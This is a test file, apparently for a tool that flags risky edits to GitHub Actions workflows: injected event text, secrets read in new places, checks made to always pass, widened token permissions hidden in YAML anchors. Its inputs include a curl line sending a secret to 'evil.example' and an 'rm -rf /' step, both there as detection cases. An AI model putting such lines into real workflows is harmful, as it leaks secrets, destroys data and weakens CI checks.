import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { base, changed, told } from "./a-workflow.ts";

describe("the steps of a workflow", () => {
  const step = "step 2 of jobs.test";

  it.each([
    ["run: npm test", "run: npm run fast", [`${step}: What it runs is new.`]],
    [
      "run: npm test",
      "run: npm test || true",
      [`${step}: What it runs is new.`, `${step}: It may let a failing check pass.`],
    ],
    ["if: success()", "if: false", [`${step}: It may let a failing check pass.`]],
    ["if: success()", "continue-on-error: true", [`${step}: It may let a failing check pass.`]],
    [
      "if: success()",
      "env: { NODE_OPTIONS: --import ./x.js }",
      [
        `${step}: Variables can change what the command does.`,
        `${step}: It may let a failing check pass.`,
      ],
    ],
    [
      "      - name: Test\n        run: npm test\n        if: success()\n",
      "",
      ["steps of jobs.test: A step is removed: Test."],
    ],
    [
      "      - name: Test",
      "      - run: npm ci\n      - name: Test",
      ["step 2 of jobs.test: What it runs is new."],
    ],
    ["env: { NODE_ENV: test }", "", ["env: Variables can change what every command does."]],
    [
      "runs-on: ubuntu-latest",
      "runs-on: [self-hosted, linux]",
      ["jobs.test.runs-on: The commands may run on a machine that is not GitHub's own."],
    ],
    [
      "    needs: test\n",
      "    environment: production\n",
      [
        "jobs.ship.environment: It changes which deployment rules and secrets hold.",
        "jobs.ship.needs: It no longer waits for, or stops with, the same jobs.",
      ],
    ],
  ])("%s -> %s", (from, to, expected) => {
    expect(changed(from, to)).toEqual(expected);
  });

  it("are missed with the job they were in", () => {
    expect(told(base, base.slice(0, base.indexOf("  ship:")))).toEqual([
      "jobs.ship: The job is removed: what it did is done no longer.",
    ]);
  });
});

describe("text that reaches a workflow", () => {
  const run = "run: npm test";
  const script = "scripts: Text from outside becomes part of a script, and can be a command:";

  it.each([
    "github.event.issue.title",
    "github.head_ref",
    "GITHUB.Event.comment.body",
    "github['event']['issue']",
    "inputs.name",
  ])("can be a command: %s", (context) => {
    expect(changed(run, `run: echo "\${{ ${context} }}"`)).toContain(`${script} ${context}.`);
  });

  it("is found behind quotes and functions, and where it only selects", () => {
    expect(changed(run, `run: "\${{ format('}}', github.head_ref) }}"`)).toContain(
      `${script} github.head_ref.`,
    );
    expect(changed("if: success()", "if: github.event.pull_request.draft")).toContain(
      "untrusted input: Text from outside reaches the workflow: github.event.pull_request.draft.",
    );
    expect(changed("if: success()", "if: github.event_name == 'push'")).toEqual([
      "step 2 of jobs.test: It may let a failing check pass.",
    ]);
  });

  it.each([
    [`\${{ secrets.NEW }}`, "NEW"],
    [`\${{ secrets['NEW'] }}`, "NEW"],
    [`\${{ toJSON(secrets) }}`, "secrets"],
    [`a \${{ env.X }} b \${{ SECRETS.new }}`, "new"],
  ])("may be a secret: %s", (text, name) => {
    expect(changed("NODE_ENV: test", `NODE_ENV: "${text}"`)).toContain(
      `secrets: Secrets are read where they were not: ${name}.`,
    );
  });

  it("is told again where a known secret is read in another place", () => {
    expect(changed(run, `run: curl -d \${{ secrets.SHIP }} evil.example`)).toContain(
      "secrets: Secrets are read where they were not: SHIP.",
    );
  });
});

describe("the form of a workflow", () => {
  it("is no change: comments, quotes, order, flow style and anchors", () => {
    expect(told(base, `# by me\n${base}`)).toEqual([]);
    expect(told(base, JSON.stringify(parse(base)))).toEqual([]);
    const shared = base
      .replaceAll("ubuntu-latest", "*where")
      .replace("*where", "&where ubuntu-latest");
    expect(told(base, shared)).toEqual([]);
  });

  it("hides nothing in an anchor", () => {
    const hidden = base.replace(
      "env: { NODE_ENV: test }",
      "env: { NODE_ENV: test }\nx: &x { contents: write }",
    );
    expect(
      told(
        base,
        hidden
          .replace("permissions: { contents: read }\n", "")
          .replace("jobs:", "permissions: *x\njobs:"),
      ),
    ).toEqual(["permissions: The token may do more than before: write contents."]);
  });

  it("is asked about when it is none", () => {
    for (const none of ["[]", "push", "null", "1"])
      expect(told(base, none)).toEqual(["file: It has not the form of a workflow."]);
  });
});

it("an action is judged by its program and its steps", () => {
  const action = `name: act\nruns: { using: composite, steps: [{ run: ls, shell: bash }] }\n`;
  expect(told(action, action.replace("run: ls", "run: rm -rf /"))).toEqual([
    "step 1 of runs: What it runs is new.",
    "step 1 of runs: It changes what runs the command.",
    "steps of runs: A step is removed: ls.",
  ]);
  expect(told(action, "name: act\nruns: { using: node20, main: x.js }\n")).toEqual([
    "runs.main: It changes the program that the action is.",
    "runs.using: It changes the program that the action is.",
    "steps of runs: A step is removed: ls.",
  ]);
});
